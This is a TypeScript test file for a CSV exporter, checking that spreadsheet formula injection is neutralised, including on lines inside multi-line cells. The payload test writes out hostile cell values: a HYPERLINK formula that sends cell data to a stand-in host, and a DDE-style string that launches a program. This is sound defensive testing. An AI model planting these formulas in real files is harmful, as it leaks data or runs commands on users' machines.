import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvFileName, neutraliseCell, toCsv } from './csv.ts';

interface Row {
  name: string;
  count: number;
}
const columns = [
  { header: 'Nombre', value: (row: Row) => row.name },
  { header: 'Puntos de acceso', value: (row: Row) => row.count },
];

/** The first column of each data row, as a spreadsheet program would read it back. */
const readBack = (names: readonly string[]) =>
  Papa.parse<string[]>(
    toCsv(
      names.map((name) => ({ name, count: 0 })),
      columns,
    ),
    { skipEmptyLines: true },
  )
    .data.slice(1)
    .map((cells) => cells[0] ?? '');

/** What a spreadsheet runs: a cell, or a line of a multi-line cell, starting with = + - @ tab or CR. */
const STARTS = ['=', '+', '-', '@', '\t', '\r'];
const BREAKS = ['\n', '\r\n', '\r'];
const isLive = (cell: string) =>
  STARTS.some((s) => cell.startsWith(s)) ||
  cell.split(/\r\n|\n|\r/).some((line, i) => i > 0 && ['=', '+', '-', '@', '\t'].some((s) => line.startsWith(s)));

describe('toCsv', () => {
  it('writes the Spanish headers and reads back the same rows', () => {
    const csv = toCsv([{ name: 'Torre "A", norte', count: 2 }], columns);
    const parsed = Papa.parse<Record<string, string>>(`\uFEFF${csv}`, { header: true, skipEmptyLines: true });
    expect(parsed.meta.fields).toEqual(['Nombre', 'Puntos de acceso']);
    expect(parsed.data).toEqual([{ Nombre: 'Torre "A", norte', 'Puntos de acceso': '2' }]);
  });

  it('escapes cells that a spreadsheet would run as formulas', () => {
    expect(readBack(['=1+2', '+52', '-1+1', '@SUM(A1)', '\tx', '\r=1', 'plain'])).toEqual([
      "'=1+2",
      "'+52",
      "'-1+1",
      "'@SUM(A1)",
      "'\tx",
      "'\r'=1",
      'plain',
    ]);
  });

  it('neutralises multi-line cells, which papaparse let through ("=1+1\\n+2")', () => {
    expect(readBack(['=1+1\n+2'])).toEqual(["'=1+1\n'+2"]);
  });

  it('leaves no live formula for any known payload, at the start or after any line break', () => {
    const payloads = STARTS.flatMap((start) => [
      `${start}1+1`,
      `${start}HYPERLINK("http://x.test/?"&A1,"clic")`,
      `${start}cmd|' /C calc'!A0`,
      ...BREAKS.flatMap((br) => [`Juan${br}${start}1+1`, `${start}1${br}${start}2${br}${start}3`]),
    ]);
    payloads.push('=1+1\n+2', '\n\r=1', 'a\r\n\r\n@x', '-\n-');
    const cells = readBack(payloads);
    expect(cells).toHaveLength(payloads.length);
    for (const [i, cell] of cells.entries()) {
      expect(isLive(cell), JSON.stringify(cell)).toBe(false);
      // Only apostrophes were added: the text a person reads is otherwise intact.
      expect(cell.replaceAll("'", ''), JSON.stringify(payloads[i])).toBe((payloads[i] ?? '').replaceAll("'", ''));
    }
  });

  it('keeps numbers as numbers: -5 (a number or text that is only a number) is not changed', () => {
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell('-5')).toBe('-5');
    expect(neutraliseCell('-12.50')).toBe('-12.50');
    expect(neutraliseCell('-5+1')).toBe("'-5+1");
    expect(neutraliseCell('+5255512345')).toBe("'+5255512345");
    expect(readBack(['-5'])).toEqual(['-5']);
    expect(neutraliseCell(null)).toBe('');
    expect(neutraliseCell(true)).toBe(true);
  });

  it('names files by day', () => {
    expect(csvFileName('unidades', new Date(2026, 0, 5))).toBe('unidades-2026-01-05.csv');
  });
});
